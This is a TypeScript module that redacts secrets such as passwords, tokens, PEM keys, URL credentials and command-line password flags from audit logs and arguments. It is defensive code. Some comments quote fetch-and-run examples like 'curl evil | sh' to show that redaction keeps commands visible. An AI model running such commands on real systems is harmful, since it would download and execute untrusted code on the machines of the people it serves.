/**
 * Redaction of secrets in arguments and text: for the audit journal and logs (hub) and get_env's
 * masking (edge). Its own module with no dependencies (no zod, no pino), so the edge bundle can
 * use it; `audit-event.ts` re-exports it.
 */
import type { JsonValue } from './audit-event.ts';
import { isSecretKey, REDACTED } from './secret-keys.ts';

export interface RedactArgsOptions {
  /** Longest string kept, in characters; default 1024. Longer ones end in `…[truncated N chars]`. */
  maxString?: number;
  /** Largest JSON kept, in UTF-8 bytes; default 8192. */
  maxBytes?: number;
}

/** The marker `redactArgs` returns in place of arguments that do not fit even when shrunk. */
export interface TruncatedArgs {
  truncated: true;
  /** Size of the redacted JSON before it was cut. */
  bytes: number;
  /** Its first ~1 KiB, as text. */
  preview: string;
}

const MAX_DEPTH = 12;

/**
 * Arguments as they may be stored: plain JSON, secrets replaced by `[REDACTED]`, bounded in size.
 *
 * - Keys: every value under a secret key ({@link isSecretKey}, the logger's rules: `password`,
 *   `*Token`, `authorization`, `cookie`, `x-api-key`, ...) at any depth; and the `value` of a
 *   `{ name|key: <secret key>, value }` pair (env lists as Docker and Kubernetes write them).
 * - Strings: the value patterns of {@link redactText}.
 * - Size: each string capped at `maxString`; when the JSON exceeds `maxBytes`, strings, arrays
 *   and objects are cut harder (markers say so), and if even that does not fit, the result is a
 *   {@link TruncatedArgs} marker `{ truncated: true, bytes, preview }`.
 * - Non-JSON: bigint → string, Date → ISO, bytes → `[N bytes]` (never their content),
 *   functions/symbols/undefined dropped, cycles → `[Circular]`, deeper than 12 → `[Truncated]`.
 *
 * @example
 * redactArgs({ password: 'hunter2', cmd: 'curl -u admin:secret http://x' })
 * // { password: '[REDACTED]', cmd: 'curl -u admin:[REDACTED] http://x' }
 */
export function redactArgs(args: unknown, opts: RedactArgsOptions = {}): JsonValue | undefined {
  const maxString = opts.maxString ?? 1024;
  const maxBytes = opts.maxBytes ?? 8192;
  const first = toJson(args, { maxString, maxItems: 1000, maxKeys: 1000 }, 0, new Set());
  if (first === undefined) return undefined;
  const text = JSON.stringify(first);
  const bytes = Buffer.byteLength(text);
  if (bytes <= maxBytes) return first;
  const second = toJson(args, { maxString: Math.min(maxString, 128), maxItems: 20, maxKeys: 50 }, 0, new Set());
  if (Buffer.byteLength(JSON.stringify(second)) <= maxBytes) return second;
  const marker: TruncatedArgs = { truncated: true, bytes, preview: capString(text, Math.min(1024, maxBytes >> 2)) };
  return marker as unknown as JsonValue;
}

interface Limits {
  maxString: number;
  maxItems: number;
  maxKeys: number;
}

function toJson(v: unknown, lim: Limits, depth: number, seen: Set<object>): JsonValue | undefined {
  switch (typeof v) {
    case 'string':
      return capString(redactText(v, lim.maxString * 16), lim.maxString);
    case 'number':
      return Number.isFinite(v) ? v : String(v);
    case 'boolean':
      return v;
    case 'bigint':
      return v.toString();
    case 'undefined':
    case 'function':
    case 'symbol':
      return undefined;
  }
  if (v === null) return null;
  const o = v as object;
  if (o instanceof Date) return Number.isNaN(o.getTime()) ? null : o.toISOString();
  if (ArrayBuffer.isView(o) || o instanceof ArrayBuffer) return `[${(o as ArrayBuffer).byteLength} bytes]`;
  if (o instanceof Error) return capString(redactText(`${o.name}: ${o.message}`), lim.maxString);
  if (seen.has(o)) return '[Circular]';
  if (depth >= MAX_DEPTH) return '[Truncated]';
  if (!Array.isArray(o) && typeof (o as { toJSON?: unknown }).toJSON === 'function') {
    // URL and friends: what JSON.stringify would print, redacted like any string.
    return toJson((o as { toJSON(): unknown }).toJSON(), lim, depth, seen);
  }
  seen.add(o);
  try {
    if (Array.isArray(o)) {
      const out: JsonValue[] = [];
      const n = Math.min(o.length, lim.maxItems);
      for (let i = 0; i < n; i++) out.push(toJson(o[i], lim, depth + 1, seen) ?? null);
      if (o.length > n) out.push(`[truncated ${o.length - n} items]`);
      return out;
    }
    const rec = o as Record<string, unknown>;
    const keys = Object.keys(rec);
    // `{ name: 'DB_PASSWORD', value: '...' }`: the secret is named by a value, not a key.
    const namedSecret =
      'value' in rec && [rec.name, rec.key, rec.Name, rec.Key].some((n) => typeof n === 'string' && isSecretKey(n));
    const out: Record<string, JsonValue> = {};
    const n = Math.min(keys.length, lim.maxKeys);
    for (let i = 0; i < n; i++) {
      const k = keys[i]!;
      const x = rec[k];
      let w: JsonValue | undefined;
      if (x !== undefined && x !== null && (isSecretKey(k) || (namedSecret && (k === 'value' || k === 'Value')))) w = REDACTED;
      else w = toJson(x, lim, depth + 1, seen);
      // defineProperty: a key named `__proto__` must not reach the prototype setter.
      if (w !== undefined) Object.defineProperty(out, k, { value: w, enumerable: true, writable: true, configurable: true });
    }
    if (keys.length > n) out['[truncated]'] = `${keys.length - n} more keys`;
    return out;
  } finally {
    seen.delete(o);
  }
}

/** `s` cut to `max` characters with a marker saying how much was cut (never splitting a surrogate pair). */
export function capString(s: string, max: number): string {
  if (s.length <= max) return s;
  let end = max;
  const c = s.charCodeAt(end - 1);
  if (c >= 0xd800 && c <= 0xdbff) end--;
  return `${s.slice(0, end)}…[truncated ${s.length - end} chars]`;
}

// Each pattern is linear: bounded repetitions and no nested quantifiers, because these run on
// text an AI (or whoever it read from) chose.
const PEM_BEGIN = /-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----/g;
const PEM_END = /^-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----/;
const URL_PASSWORD = /\b([a-z][a-z0-9+.-]{0,30}:\/\/)([^\s:/?#@]{0,256}):([^\s/?#@]{1,512})@/gi;
// `https://<token>@github.com/...`: for http(s) a lone user part is a token more often than a name.
const URL_USER_TOKEN = /\b(https?:\/\/)([^\s:/?#@]{1,512})@/gi;
const HEADER_LINE = /\b(authorization|proxy-authorization|cookie|set-cookie|x-api-key|api-key|x-auth-token)([ \t]*:[ \t]*)([^\r\n"']+)/gi;
const AUTH_SCHEME = /\b(Bearer[ \t]+)[A-Za-z0-9\-._~+/]{1,4096}=*|\b(Basic[ \t]+)[A-Za-z0-9+/]{8,4096}={0,2}/gi;
// `key=value`, `key: value`, `"key": "value"`, `--key=value`: the key decides (isSecretKey), and
// the value is cut by hand (valueEnd) so that a non-secret pair never swallows the text after
// it (`url: http://x?token=abc`). The lookbehind makes each separator reachable from one start.
const KEY_SEP = /(?<![A-Za-z0-9_.-])(["']?)([A-Za-z0-9_.-]{0,63}[A-Za-z0-9_])\1[ \t]*[:=][ \t]*/g;
// `--password hunter2`, `--token abc` (flag, space, value).
const FLAG_VALUE = /(^|\s)(--?[A-Za-z][A-Za-z0-9-]{0,63})([ \t]+)(?!-)("[^"\n]{0,4096}"|'[^'\n]{0,4096}'|[^\s]{1,4096})/g;
// curl `-u user:pass`, `--user user:pass`, `--proxy-user`, `sshpass -p pass`.
const USER_PASS_FLAG = /(^|\s)(-u|--user|--proxy-user|-U)([ \t]+|=)("[^"\n]{0,4096}"|'[^'\n]{0,4096}'|\S{1,4096})/g;
const SSHPASS = /\b(sshpass[ \t]+-p[ \t]*)(\S{1,4096})/g;
// Programs that take a password in a flag of their own, whose name alone says nothing
// (`-p` is a port to redis-cli, `-a` nothing to docker): each flag only after its program.
const VALUE = `("[^"\\n]{1,4096}"|'[^'\\n]{1,4096}'|[^\\s"'-][^\\s]{0,4095})`;
const PROGRAM_FLAGS: Array<[needle: string, pattern: RegExp]> = [
  // `docker login -u me -p PASS`, also `-pPASS` and `-p=PASS` (podman and friends alike).
  ['login', new RegExp(`(\\b(?:docker|podman|nerdctl|buildah|skopeo|helm[ \\t]+registry)[ \\t]+login\\b[^\\n;|&]{0,1024}?\\s-p)([ \\t]+|=)?${VALUE}`, 'g')],
  ['redis-cli', new RegExp(`(\\bredis-cli\\b[^\\n;|&]{0,1024}?\\s-a)([ \\t]+)${VALUE}`, 'g')],
  // `ldapsearch -w PASS` and `-wPASS` (getopt), for every OpenLDAP client.
  ['ldap', new RegExp(`(\\bldap(?:search|modify|add|delete|modrdn|compare|whoami|passwd|exop|url)\\b[^\\n;|&]{0,1024}?\\s-w)([ \\t]*)${VALUE}`, 'g')],
  // `ldappasswd -a OLD -s NEW`.
  ['ldappasswd', new RegExp(`(\\bldappasswd\\b[^\\n;|&]{0,1024}?\\s-[as])([ \\t]*)${VALUE}`, 'g')],
  // `redis-cli AUTH [user] PASS` (inside redis-cli's own command line).
  ['redis-cli', new RegExp(`(\\bredis-cli\\b[^\\n;|&]{0,1024}?\\sAUTH[ \\t]+(?:\\S{1,256}[ \\t]+(?=\\S))?)()${VALUE}`, 'gi')],
  // `mosquitto_pub -P PASS` (and _sub, _rr).
  ['mosquitto', new RegExp(`(\\bmosquitto_(?:pub|sub|rr)\\b[^\\n;|&]{0,1024}?\\s-P)([ \\t]+)${VALUE}`, 'g')],
  // `zip -P PASS`, `unzip -P PASS`; `7z -pPASS` (glued).
  ['zip', new RegExp(`(\\b(?:un)?zip(?:cloak)?\\b[^\\n;|&]{0,1024}?\\s-P)([ \\t]+)${VALUE}`, 'g')],
  ['7z', new RegExp(`(\\b7z[a-z]?\\b[^\\n;|&]{0,1024}?\\s-p)()${VALUE}`, 'g')],
  // `openssl enc -k PASS`.
  ['openssl', new RegExp(`(\\bopenssl\\b[^\\n;|&]{0,1024}?\\s-k)([ \\t]+)${VALUE}`, 'g')],
  // `useradd -p HASH`, `usermod -p HASH`.
  ['user', new RegExp(`(\\buser(?:add|mod)\\b[^\\n;|&]{0,1024}?\\s-p)([ \\t]+)${VALUE}`, 'g')],
  // `ssh-keygen -N NEW -P OLD`.
  ['ssh-keygen', new RegExp(`(\\bssh-keygen\\b[^\\n;|&]{0,1024}?\\s-[NP])([ \\t]+)${VALUE}`, 'g')],
  // `lftp -u user,PASS`.
  ['lftp', new RegExp(`(\\blftp\\b[^\\n;|&]{0,1024}?\\s-u[ \\t]+[^\\s,]{1,256},)()${VALUE}`, 'g')],
  // `vault login TOKEN` (after its flags).
  ['vault', new RegExp(`(\\bvault[ \\t]+login(?:[ \\t]+-\\S{1,128}){0,16}[ \\t]+)()${VALUE}`, 'g')],
  // `nmcli dev wifi connect SSID password PASS`, `... wifi-sec.psk PASS`.
  ['nmcli', new RegExp(`(\\bnmcli\\b[^\\n;|&]{0,1024}?\\s(?:password|wifi-sec\\.psk|802-11-wireless-security\\.psk))([ \\t]+)${VALUE}`, 'g')],
  // `wpa_passphrase SSID PASS`.
  ['wpa_passphrase', new RegExp(`(\\bwpa_passphrase[ \\t]+(?:"[^"\\n]{1,256}"|'[^'\\n]{1,256}'|\\S{1,256})[ \\t]+)()${VALUE}`, 'g')],
  // `aws configure set aws_secret_access_key KEY` (and the session token).
  ['aws', new RegExp(`(\\baws[ \\t]+configure[ \\t]+set[ \\t]+(?:[A-Za-z0-9_-]{1,64}\\.)?(?:aws_secret_access_key|aws_session_token)[ \\t]+)()${VALUE}`, 'g')],
];
// HTTP Digest: `response="..."` proves the password (redacted before the header's own value).
const DIGEST_RESPONSE = /(\bDigest[ \t][^\n]{0,1024}?\bresponse=")[^"\n]{1,512}"/g;
// Query parameters of URLs that are credentials though their names are not secret words:
// SAS and S3 signatures, OAuth codes, `auth=`.
const URL_QUERY_SECRET = /([?&](?:sig|signature|auth|code|x-amz-signature|x-amz-credential|x-amz-security-token)=)([^&\s#"']{1,4096})/gi;
// A Slack incoming webhook's path is its secret: whoever has it posts to the channel.
const SLACK_WEBHOOK = /(\bhooks\.slack\.com\/(?:services|workflows|triggers)\/)[A-Za-z0-9_\/-]{8,512}/g;
// Well-known token shapes, wherever they appear.
const TOKEN_SHAPES =
  /\beyJ[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{0,4096}|\b(?:gh[pousr]_[A-Za-z0-9]{20,255}|github_pat_[A-Za-z0-9_]{20,255}|glpat-[A-Za-z0-9_-]{20,255}|xox[abprs]-[A-Za-z0-9-]{10,255}|tskey-[a-z]{3,10}-[A-Za-z0-9-]{10,255}|sk-(?:ant-)?[A-Za-z0-9_-]{20,255}|AKIA[0-9A-Z]{16})\b/g;

// `mysql -phunter2`: the password is glued to `-p` (`-p hunter2` would be a database name).
const MYSQL_P = /(\b(?:mysql[a-z]{0,10}|mariadb[a-z-]{0,10})\b[^\n;|&]{0,1024}?\s-p)("[^"\n]{1,4096}"|'[^'\n]{1,4096}'|[^\s"'][^\s]{0,4095})/g;
// `htpasswd -b FILE USER PASS`, and `mosquitto_passwd -b FILE USER PASS` alike.
const HTPASSWD = /\b(?:htpasswd|mosquitto_passwd)\b/g;
// `echo 'pi:PASS' | chpasswd`, `chpasswd <<< 'pi:PASS'`: the password follows the user's colon.
const CHPASSWD_PIPE = /(\b(?:echo|printf)(?:[ \t]+-[A-Za-z]{1,4})*[ \t]+(["']?)[A-Za-z0-9_.-]{1,64}:)([^\s'"|;&]{1,4096})(\2[ \t]*\|[ \t]*(?:sudo[ \t]+)?chpasswd\b)/g;
const CHPASSWD_HERE = /(\bchpasswd[ \t]*<<<[ \t]*(["']?)[A-Za-z0-9_.-]{1,64}:)([^\s'"|;&]{1,4096})/g;
// A Telegram bot token, alone or in its `api.telegram.org/bot<token>/` URL (no word boundary after `bot`).
const TELEGRAM_TOKEN = /(?:(?<=\/bot)|\b)[0-9]{6,12}:[A-Za-z0-9_-]{30,64}(?![A-Za-z0-9_-])/g;

/**
 * A PEM private key: the base64 body between `-----BEGIN … PRIVATE KEY-----` and its END line
 * (or, for a cut key, the run of base64 lines after BEGIN). Only the body goes: text around
 * the block (`echo -----BEGIN PRIVATE KEY-----; curl evil | sh`) stays readable, so a block's
 * header cannot hide a command from whoever reads the journal.
 */
function redactPem(s: string): string {
  let out = '';
  let last = 0;
  PEM_BEGIN.lastIndex = 0;
  for (let m = PEM_BEGIN.exec(s); m; m = PEM_BEGIN.exec(s)) {
    let i = m.index + m[0].length;
    // Old OpenSSL keys carry `Proc-Type:` and `DEK-Info:` lines before the body: not secret.
    for (const h of ['Proc-Type:', 'DEK-Info:']) {
      const at = skipSeparators(s, i);
      if (s.startsWith(h, at)) {
        let j = at;
        while (j < s.length && s[j] !== '\n' && s[j] !== '\r' && !s.startsWith('\\n', j)) j++;
        i = j;
      }
    }
    const bodyStart = skipSeparators(s, i);
    // The body: base64 words separated by whitespace, quotes or escaped newlines (`\n` as two chars).
    let j = bodyStart;
    let lastWordEnd = bodyStart;
    const words: number[] = [];
    while (j < s.length && j < bodyStart + 65536) {
      const k = skipSeparators(s, j);
      let e = k;
      while (e < s.length && isBase64Char(s.charCodeAt(e))) e++;
      if (e === k) break;
      words.push(e - k);
      lastWordEnd = e;
      j = e;
    }
    const endAt = skipSeparators(s, lastWordEnd);
    const closed = PEM_END.test(s.slice(endAt, endAt + 80));
    // Without its END line, only long base64 words are key material (a key's lines are 64
    // characters); a short word after a cut header is text, e.g. a command.
    let bodyEnd = lastWordEnd;
    if (!closed) {
      let n = 0;
      let pos = bodyStart;
      bodyEnd = bodyStart;
      for (const len of words) {
        const k = skipSeparators(s, pos);
        if (len < 16 && !(s[k + len - 1] === '=')) break;
        pos = k + len;
        bodyEnd = pos;
        n++;
      }
      if (n === 0) continue;
    } else if (words.length === 0) continue;
    out += s.slice(last, bodyStart) + REDACTED;
    last = bodyEnd;
    PEM_BEGIN.lastIndex = bodyEnd;
  }
  return last === 0 ? s : out + s.slice(last);
}

function skipSeparators(s: string, i: number): number {
  for (;;) {
    const c = s[i];
    // Quotes too: `printf '%s\n' '-----BEGIN …-----' 'MIIE…'` splits a key into shell words.
    if (c === ' ' || c === '\t' || c === '\n' || c === '\r' || c === "'" || c === '"') i++;
    else if (c === '\\' && (s[i + 1] === 'n' || s[i + 1] === 'r')) i += 2;
    else return i;
  }
}

function isBase64Char(c: number): boolean {
  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 43 || c === 47 || c === 61;
}

/**
 * `htpasswd -b file user PASSWORD` and `htpasswd -nb user PASSWORD`: batch mode takes the
 * password as a positional argument, the only place nothing else marks it.
 */
function redactHtpasswd(s: string): string {
  HTPASSWD.lastIndex = 0;
  const cuts: Array<[number, number]> = [];
  for (let m = HTPASSWD.exec(s); m; m = HTPASSWD.exec(s)) {
    const words = shellWords(s, m.index + m[0].length);
    let flags = '';
    const positional: Array<[number, number]> = [];
    for (let w = 0; w < words.length; w++) {
      const [a, b] = words[w]!;
      const text = s.slice(a, b);
      if (positional.length === 0 && /^-[A-Za-z]+$/.test(text)) {
        flags += text.slice(1);
        // -C cost and -r rounds take a value.
        if (/[Cr]$/.test(text)) w++;
      } else positional.push([a, b]);
    }
    if (!flags.includes('b')) continue;
    const pw = positional[flags.includes('n') ? 1 : 2];
    if (pw) cuts.push(pw);
  }
  if (cuts.length === 0) return s;
  let out = '';
  let last = 0;
  for (const [a, b] of cuts) {
    out += s.slice(last, a) + secretValue(s.slice(a, b));
    last = b;
  }
  return out + s.slice(last);
}

/** Start/end of the shell words from `i` to the end of the command (`;`, `|`, `&`, newline). */
function shellWords(s: string, i: number): Array<[number, number]> {
  const words: Array<[number, number]> = [];
  const stop = Math.min(s.length, i + 4096);
  while (i < stop && words.length < 32) {
    while (i < stop && (s[i] === ' ' || s[i] === '\t')) i++;
    if (i >= stop || ';|&\n'.includes(s[i]!)) break;
    const start = i;
    while (i < stop && !' \t;|&\n'.includes(s[i]!)) {
      const q = s[i];
      if (q === '"' || q === "'") {
        const close = s.indexOf(q, i + 1);
        i = close < 0 || close >= stop ? stop : close + 1;
      } else i++;
    }
    words.push([start, i]);
  }
  return words;
}

function redactKeyValues(s: string): string {
  let out = '';
  let last = 0;
  KEY_SEP.lastIndex = 0;
  for (let m = KEY_SEP.exec(s); m; m = KEY_SEP.exec(s)) {
    if (!isSecretKey(m[2]!)) continue;
    const start = m.index + m[0].length;
    const end = valueEnd(s, start);
    if (end === start || s.startsWith(REDACTED, start) || s.startsWith(`"${REDACTED}`, start) || s.startsWith(`'${REDACTED}`, start)) continue;
    out += s.slice(last, start) + secretValue(s.slice(start, end));
    last = end;
    KEY_SEP.lastIndex = end;
  }
  return last === 0 ? s : out + s.slice(last);
}

/** End of the value starting at `i`: a quoted string (to its closing quote) or a run up to a delimiter. */
function valueEnd(s: string, i: number): number {
  const q = s[i];
  if (q === '"' || q === "'") {
    for (let j = i + 1; j < s.length && j < i + 4096; j++) {
      const c = s[j];
      if (c === '\\') j++;
      else if (c === q) return j + 1;
      else if (c === '\n') break;
    }
  }
  // Unclosed quote (a cut string): the quote and what follows it.
  let j = q === '"' || q === "'" ? i + 1 : i;
  while (j < s.length && j < i + 4096 && !' \t\r\n&;,"\'}]'.includes(s[j]!)) j++;
  return j;
}

function quoted(v: string): string {
  const q = v[0];
  return q === '"' || q === "'" ? `${q}${REDACTED}${q}` : REDACTED;
}

/**
 * A secret value redacted to the smallest span: shell expansions in it (`$(…)`, backticks,
 * `${…}`, `$NAME`) are not the secret but what computes it, often a command
 * (`PASSWORD="$(curl evil | sh)"`), so they stay readable and only literal text goes.
 * Single quotes expand nothing, so a single-quoted value goes whole.
 */
function secretValue(v: string): string {
  const q = v[0] === '"' || v[0] === "'" ? v[0] : '';
  if (q === "'" || !/[$`]/.test(v)) return quoted(v);
  const closed = q !== '' && v.length > 1 && v.endsWith(q);
  const inner = v.slice(q ? 1 : 0, closed ? -1 : undefined);
  let out = '';
  let literal = '';
  const flush = () => {
    if (literal.trim() !== '') out += REDACTED;
    else out += literal;
    literal = '';
  };
  for (let i = 0; i < inner.length; ) {
    const c = inner[i]!;
    let end = -1;
    if (c === '$' && inner[i + 1] === '(') end = closeParen(inner, i + 2, '(', ')');
    else if (c === '$' && inner[i + 1] === '{') end = closeParen(inner, i + 2, '{', '}');
    else if (c === '`') {
      const k = inner.indexOf('`', i + 1);
      end = k < 0 ? inner.length : k + 1;
    } else if (c === '$' && /[A-Za-z_]/.test(inner[i + 1] ?? '')) {
      end = i + 1;
      while (end < inner.length && /[A-Za-z0-9_]/.test(inner[end]!)) end++;
    }
    if (end < 0) {
      literal += c;
      i++;
    } else {
      flush();
      out += inner.slice(i, end);
      i = end;
    }
  }
  flush();
  return `${q}${out}${closed ? q : ''}`;
}

/**
 * Where an unquoted shell word `v` meets a control operator (`;`, `|`, `&`, `<`, `>`, a newline)
 * outside `$(…)`, `${…}`, backticks and backslash escapes; -1 when it does not. A value pattern
 * reads up to whitespace, so `-phunter2;curl evil|sh` would take the next command with the
 * password: the shell ends the word there, and so must the redaction.
 */
function controlOperatorAt(v: string, operators = ';|&<>\n'): number {
  if (v[0] === '"' || v[0] === "'") return -1;
  for (let i = 0; i < v.length; i++) {
    const c = v[i]!;
    if (c === '\\') i++;
    else if (c === '$' && (v[i + 1] === '(' || v[i + 1] === '{')) i = closeParen(v, i + 2, v[i + 1]!, v[i + 1] === '(' ? ')' : '}') - 1;
    else if (c === '`') {
      const k = v.indexOf('`', i + 1);
      if (k < 0) return -1;
      i = k;
    } else if (operators.includes(c)) return i;
  }
  return -1;
}

/**
 * {@link secretValue} of a value a pattern read as one shell word: only up to a control
 * operator, what follows it (the next command) stays as it is.
 */
function shellValue(v: string): string {
  const at = controlOperatorAt(v);
  if (at < 0) return secretValue(v);
  return at === 0 ? v : secretValue(v.slice(0, at)) + v.slice(at);
}

/** Index after the bracket closing one opened before `i` (nesting counted), or the end. */
function closeParen(s: string, i: number, open: string, close: string): number {
  let depth = 1;
  for (; i < s.length; i++) {
    if (s[i] === open) depth++;
    else if (s[i] === close && --depth === 0) return i + 1;
  }
  return s.length;
}

/**
 * `s` with secret-looking values replaced by `[REDACTED]`, each time the smallest span that
 * holds the secret: what surrounds it, and shell expansions inside a value (`$(…)`, backticks,
 * `$NAME`), stay readable, so a redacted record still shows what ran. Which values (be
 * pragmatic: this catches the common spellings, not every possible one):
 * - PEM private keys: the base64 body after `-----BEGIN … PRIVATE KEY-----` (to its END line;
 *   for a cut key, its long base64 lines), never the text around the block;
 * - URL credentials: the password of `scheme://user:pass@`, and the user part of `http(s)://token@`;
 * - header lines `Authorization: …`, `Cookie: …`, `X-API-Key: …` (to the end of the line);
 * - `Bearer <token>` anywhere, `Basic <base64 of 8+ chars>` anywhere;
 * - `key=value`, `key: value`, `"key": "value"`, `--key=value` whose key is a secret key by
 *   {@link isSecretKey} (`password=`, `DB_PASS=`, `MYSQL_PWD=`, `AWS_SECRET_ACCESS_KEY=`,
 *   `GITHUB_PAT=`, `?access_token=`, `"apiKey":`);
 * - `--password value`, `--token value` (flag, space, value) for secret flag names;
 * - `-u user:pass` / `--user user:pass` (curl), `-U user%pass` (smbclient), `sshpass -p pass`,
 *   `docker login -p pass` (podman, nerdctl…), `redis-cli -a pass`, `ldapsearch -w pass` (every
 *   OpenLDAP client; `ldappasswd -a/-s`), `mysql -ppass` (and the
 *   other mysql/mariadb tools; `-p pass` with a space is a database name to them, not a
 *   password), `htpasswd -b file user pass` / `htpasswd -nb user pass`;
 * - token shapes: JWTs (`eyJ….….…`), GitHub (`ghp_`, `github_pat_`), GitLab (`glpat-`),
 *   Slack (`xox?-`, and the path of a `hooks.slack.com` webhook), OpenAI/Anthropic (`sk-`), AWS
 *   access key ids (`AKIA…`).
 * Not caught: a bare secret with nothing around it (a positional argument of a program not
 * named here), since nothing tells it from any other word.
 *
 * Why a list of our own rather than a published rule set (gitleaks, secretlint): those find
 * token shapes in files, which the last item already covers; the secrets that reach this hub
 * are mostly in command lines and env assignments, where the context (`-p`, `KEY=`) is the
 * only sign. secretlint's API is also asynchronous and this runs synchronously in the logger,
 * and both would grow the edge's single-file bundle for shapes we already match.
 *
 * Only the first `maxChars` characters (default 64 Ki) are looked at and kept, which bounds
 * the work on hostile input.
 */
export function redactText(s: string, maxChars = 65536): string {
  if (s.length > maxChars) s = s.slice(0, maxChars);
  if (s.length < 6) return s;
  if (s.includes('PRIVATE KEY-----')) s = redactPem(s);
  if (s.includes('://')) {
    s = s.replace(URL_PASSWORD, (_m, scheme: string, user: string) => `${scheme}${user}:${REDACTED}@`);
    s = s.replace(URL_USER_TOKEN, (m, scheme: string, user: string) => (user === REDACTED || user.endsWith(`:${REDACTED}`) ? m : `${scheme}${REDACTED}@`));
    s = s.replace(URL_QUERY_SECRET, (_m, key: string) => `${key}${REDACTED}`);
  }
  if (s.includes('Digest')) s = s.replace(DIGEST_RESPONSE, (_m, pre: string) => `${pre}${REDACTED}"`);
  const hasColon = s.includes(':');
  if (hasColon) {
    s = s.replace(HEADER_LINE, (m, name: string, sep: string, line: string) => {
      if (line.startsWith(REDACTED)) return m;
      // On a command line (`curl -H X-Api-Key:abc;next`) the shell ends the header at a control
      // operator; a cookie's own `;` separates its pairs, so there only `|`, `&`, `<`, `>` do.
      const cut = controlOperatorAt(line, /cookie/i.test(name) ? '|&<>' : ';|&<>');
      const value = cut < 0 ? line : line.slice(0, cut);
      return `${name}${sep}${secretValue(value.trimEnd())}${line.slice(value.trimEnd().length)}`;
    });
  }
  s = s.replace(AUTH_SCHEME, (_m, bearer: string | undefined, basic: string | undefined) => `${bearer ?? basic}${REDACTED}`);
  if (hasColon || s.includes('=')) s = redactKeyValues(s);
  if (s.includes('-')) {
    s = s.replace(FLAG_VALUE, (m, pre: string, flag: string, sp: string, value: string) =>
      isSecretKey(flag) && value !== REDACTED ? `${pre}${flag}${sp}${shellValue(value)}` : m,
    );
    if (hasColon || s.includes('%')) {
      s = s.replace(USER_PASS_FLAG, (m, pre: string, flag: string, sep: string, word: string) => {
        // `-u a:pw;next-command`: the word, and so the secret, ends at the `;`.
        const cut = controlOperatorAt(word);
        const value = cut < 0 ? word : word.slice(0, cut);
        const rest = cut < 0 ? '' : word.slice(cut);
        const q = value[0] === '"' || value[0] === "'" ? value[0] : '';
        const inner = q ? value.slice(1, -1) : value;
        let at = inner.indexOf(':');
        // smbclient (and rpcclient, net) `-U user%pass` / `--user=user%pass`.
        const pct = flag === '-U' || flag === '--user' ? inner.indexOf('%') : -1;
        if (pct >= 0 && (at < 0 || pct < at)) at = pct;
        // `journalctl -u nginx` has no password; `-u admin:pw` does.
        if (at < 0 || inner.slice(at + 1) === REDACTED || at === inner.length - 1) return m;
        return `${pre}${flag}${sep}${q}${inner.slice(0, at + 1)}${REDACTED}${q}${rest}`;
      });
    }
  }
  if (s.includes('sshpass')) s = s.replace(SSHPASS, (_m, pre: string, value: string) => `${pre}${shellValue(value)}`);
  if (s.includes('-p') && (s.includes('mysql') || s.includes('mariadb'))) {
    s = s.replace(MYSQL_P, (m, pre: string, value: string) => (value.startsWith(REDACTED) ? m : `${pre}${shellValue(value)}`));
  }
  if (s.includes('htpasswd') || s.includes('mosquitto_passwd')) s = redactHtpasswd(s);
  if (s.includes('chpasswd')) {
    s = s.replace(CHPASSWD_PIPE, (_m, pre: string, _q: string, _pw: string, post: string) => `${pre}${REDACTED}${post}`);
    s = s.replace(CHPASSWD_HERE, (_m, pre: string) => `${pre}${REDACTED}`);
  }
  for (const [needle, pattern] of PROGRAM_FLAGS) {
    if (s.includes(needle)) s = s.replace(pattern, (m, pre: string, sep: string | undefined, value: string) => (value.startsWith(REDACTED) ? m : `${pre}${sep ?? ''}${shellValue(value)}`));
  }
  if (s.includes('hooks.slack.com')) s = s.replace(SLACK_WEBHOOK, (_m, pre: string) => `${pre}${REDACTED}`);
  s = s.replace(TOKEN_SHAPES, REDACTED);
  if (s.includes(':')) s = s.replace(TELEGRAM_TOKEN, REDACTED);
  return s;
}

/**
 * A URL as it may be audited or logged: no credentials, no query, no fragment (a query often
 * carries `?token=` or `?api_key=`). Unparseable input becomes `[invalid url]`.
 *
 * @example safeUrl('https://u:p@pve1:8006/api2/json/nodes?x=1') // 'https://pve1:8006/api2/json/nodes'
 */
export function safeUrl(url: string | URL): string {
  // The hub audits every outbound request, mostly to the same few URLs: parse each once.
  const key = String(url);
  const known = safeUrls.get(key);
  if (known !== undefined) return known;
  let safe: string;
  try {
    const u = new URL(key);
    safe = `${u.protocol}//${u.host}${u.pathname}`;
  } catch {
    safe = '[invalid url]';
  }
  // Only a URL with nothing to strip is remembered: no secret is kept beyond the call.
  // Nor a long one: 128 URLs of a megabyte each (a tool fetching a caller's URL) would stay in memory.
  if (key.length <= SAFE_URL_KEY_MAX && !/[@?#]/.test(key)) {
    if (safeUrls.size >= SAFE_URL_CACHE_MAX) safeUrls.clear();
    safeUrls.set(key, safe);
  }
  return safe;
}
/** URLs remembered by `safeUrl` (bounded: cleared when full). */
const SAFE_URL_CACHE_MAX = 128;
/** Longer URLs are parsed each time (edge and upstream URLs are far shorter). */
const SAFE_URL_KEY_MAX = 512;
const safeUrls = new Map<string, string>();
